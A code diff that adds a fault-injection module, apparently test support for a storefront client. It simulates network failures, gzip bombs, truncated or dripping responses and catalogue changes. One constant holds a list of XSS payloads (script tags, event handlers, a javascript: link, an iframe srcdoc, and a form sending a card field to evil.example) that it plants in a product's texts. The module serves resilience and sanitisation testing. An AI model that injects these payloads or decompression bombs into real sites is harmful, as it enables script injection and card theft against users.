@@ -1,0 +1,175 @@
+import { z } from "zod";
+import { json } from "./answers";
+import { type NextPiece, padded, pause, pieces, untilAborted } from "./slow-body";
+import type { WireProduct } from "./wire-product";
+
+const always = z.literal(true);
+const size = z.int().min(1);
+
+/** One fault: the calls it meets (`times` of them, else all) and what it does to them. The names say the effect. */
+export const faultRule = z.strictObject({
+  match: z.enum(["products", "product", "variants", "checkout", "any"]),
+  method: z.string().optional(),
+  times: size.optional(),
+  delay: z.int().min(0).optional(), // ms before anything else
+  reset: z.union([always, z.literal("after")]).optional(), // 'after': the call was carried out, its answer is lost
+  hang: always.optional(), // no headers, until the request is aborted
+  redirect: z.string().optional(),
+  html: z.string().optional(), // status 200, text/html
+  status: z.int().min(200).max(599).optional(), // with `body` as JSON, else the service's error shape
+  body: z.unknown().optional(), // status 200
+  huge: size.optional(), // bytes of valid JSON
+  gzipBomb: size.optional(), // bytes once inflated
+  brokenJson: always.optional(), // the first half of the answer, complete in transport
+  stall: always.optional(), // the first half, then nothing
+  drip: size.optional(), // ms between pieces of 16 bytes
+  stock: z.record(z.string(), z.int()).optional(), // variant id to quantity; makes the stock managed
+  removed: z.array(z.string()).optional(), // product and variant ids
+  hostile: z.string().optional(), // product id: hostile HTML in title and texts
+  patch: z
+    .strictObject({ productId: z.string(), fields: z.record(z.string(), z.unknown()) })
+    .optional(),
+  checkoutUrl: z.string().optional(), // the answered checkout address
+});
+export type FaultRule = z.infer<typeof faultRule>;
+
+/** Faults in order: delays and catalogue changes add up, the first rule with an answer of its own answers. */
+export type Faults = FaultRule[];
+
+const hostileHtml = [
+  "<script>window.pwned=1</script>",
+  '<img src=x onerror="window.pwned=1">',
+  '<svg onload="window.pwned=1"></svg>',
+  '<a href="javascript:window.pwned=1">link</a>',
+  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+  '<form action="https://evil.example"><input name="card"></form>',
+  "<style>body{display:none}</style></script><!--",
+].join("");
+
+const connectionReset = () =>
+  new TypeError("fetch failed", {
+    cause: Object.assign(new Error("read ECONNRESET"), { code: "ECONNRESET" }),
+  });
+
+/** Whether an error stands for a connection that was reset: in process it is thrown, over HTTP the socket is destroyed. */
+export const isConnectionReset = (error: unknown): boolean =>
+  error instanceof TypeError &&
+  (error.cause as { code?: string } | undefined)?.code === "ECONNRESET";
+
+type Scene = { rule: FaultRule; request: Request; genuine: () => Promise<Response> | Response };
+type Effect = (scene: Scene) => Promise<Response> | Response;
+
+const jsonHeaders = { "Content-Type": "application/json; charset=utf-8" };
+const bytesOf = async (answer: Response) => new Uint8Array(await answer.arrayBuffer());
+
+const effects: { [Name in keyof FaultRule]?: Effect } = {
+  reset: async ({ rule, genuine }) => {
+    if (rule.reset === "after") await genuine();
+    throw connectionReset();
+  },
+  hang: ({ request }) => untilAborted(request.signal, request),
+  redirect: ({ rule }) =>
+    new Response(null, { status: 302, headers: { Location: rule.redirect ?? "/" } }),
+  html: ({ rule }) =>
+    new Response(rule.html, { headers: { "Content-Type": "text/html; charset=utf-8" } }),
+  status: ({
+    rule: {
+      status = 500,
+      body = { code: "unknown_error", type: "unknown_error", message: "Fault" },
+    },
+  }) => ([204, 205, 304].includes(status) ? new Response(null, { status }) : json(body, status)),
+  body: ({ rule }) => json(rule.body),
+  huge: ({ rule, request }) =>
+    new Response(padded(request, rule.huge ?? 0), { headers: jsonHeaders }),
+  gzipBomb: ({ rule, request }) =>
+    new Response(padded(request, rule.gzipBomb ?? 0).pipeThrough(new CompressionStream("gzip")), {
+      headers: { ...jsonHeaders, "Content-Encoding": "gzip" },
+    }),
+  brokenJson: async ({ genuine }) => {
+    const whole = await bytesOf(await genuine());
+    return new Response(whole.subarray(0, whole.length / 2), { headers: jsonHeaders });
+  },
+  stall: async ({ request, genuine }) => {
+    const whole = await bytesOf(await genuine());
+    const half = whole.subarray(0, whole.length / 2);
+    return new Response(
+      pieces(request, (at, signal) => (at === 0 ? half : untilAborted(signal))),
+      { headers: jsonHeaders },
+    );
+  },
+  drip: async ({ rule, request, genuine }) => {
+    const whole = await bytesOf(await genuine());
+    const next: NextPiece = async (at, signal) => {
+      if (at * 16 >= whole.length) return null;
+      await pause(rule.drip ?? 1, signal);
+      return whole.subarray(at * 16, at * 16 + 16);
+    };
+    return new Response(pieces(request, next), { headers: jsonHeaders });
+  },
+};
+
+/** Answers a request under the rules that meet it: `genuine` makes the right answer, which a rule may delay, change or drop. */
+export async function answerUnderFaults(
+  rules: Faults,
+  request: Request,
+  genuine: () => Promise<Response> | Response,
+): Promise<Response> {
+  for (const { delay } of rules) if (delay) await pause(delay, request.signal);
+  for (const rule of rules) {
+    const name = (Object.keys(effects) as (keyof FaultRule)[]).find(
+      (effect) => rule[effect] !== undefined,
+    );
+    if (name) return effects[name]!({ rule, request, genuine });
+  }
+  return genuine();
+}
+
+const changes: ((products: WireProduct[], rule: FaultRule) => WireProduct[])[] = [
+  (products, { removed = [] }) =>
+    products
+      .filter(({ id }) => !removed.includes(id))
+      .map((product) => ({
+        ...product,
+        variants: product.variants.filter(({ id }) => !removed.includes(id)),
+      })),
+  (products, { stock = {} }) =>
+    products.map((product) => ({
+      ...product,
+      variants: product.variants.map((variant) => {
+        const quantity = stock[variant.id];
+        return quantity === undefined
+          ? variant
+          : { ...variant, manage_inventory: true, inventory_quantity: quantity };
+      }),
+    })),
+  (products, { hostile }) =>
+    products.map((product) => {
+      if (product.id !== hostile) return product;
+      const additional_info = product.additional_info.map((info) => ({
+        ...info,
+        description: hostileHtml,
+      }));
+      return {
+        ...product,
+        title: hostileHtml,
+        subtitle: hostileHtml,
+        description: `<p>Before</p>${hostileHtml}`,
+        additional_info,
+      };
+    }),
+];
+
+/** The catalogue as the rules change it; patches come last, for they may break a product's shape. */
+export function changedCatalogue(products: WireProduct[], rules: Faults): WireProduct[] {
+  const changed = rules.reduce(
+    (all, rule) => changes.reduce((shelf, change) => change(shelf, rule), all),
+    products,
+  );
+  return rules.reduce(
+    (all, { patch }) =>
+      all.map((product) =>
+        product.id === patch?.productId ? { ...product, ...patch.fields } : product,
+      ),
+    changed,
+  );
+}
